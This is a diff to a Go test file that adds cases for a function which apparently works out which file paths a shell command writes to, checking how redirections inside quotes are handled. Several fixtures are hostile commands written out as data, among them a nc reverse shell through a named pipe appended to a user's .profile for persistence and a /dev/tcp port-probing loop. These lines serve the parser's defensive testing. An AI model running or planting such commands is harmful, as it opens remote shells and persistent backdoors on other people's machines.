@@ -36,6 +36,11 @@ func TestSummaryHelpers(t *testing.T) {
 			{[]string{"sh"}, `echo "x" >> /home/u/.profile 2>/dev/null`, []string{"/home/u/.profile"}},
 			{[]string{"sh"}, `id > /dev/null 2>&1`, nil},
 			{[]string{"sed", "-i", "1i dig x", "/home/u/.bashrc"}, "", []string{"/home/u/.bashrc"}},
+			// a '>' inside quotes is text (here echoed into a profile), not
+			// a redirection of this shell
+			{[]string{"sh"}, `echo "[ -p /tmp/.q ] || sh -c 'sh -i </tmp/.q | nc h 1 >/tmp/.q'" >> /home/u/.profile`, []string{"/home/u/.profile"}},
+			{[]string{"sh"}, `echo 'x > /tmp/a' "y >/tmp/b" \"z >/tmp/c`, []string{"/tmp/c"}},
+			{[]string{"sh"}, `bash -c 'for p in 1 2; do (echo > /dev/tcp/h/$p); done' > /tmp/.o`, []string{"/tmp/.o"}},
 		} {
 			name := baseName(tc.args[0])
 			if got := writtenPaths(name, tc.args, tc.cmd); !slices.Equal(got, tc.want) {
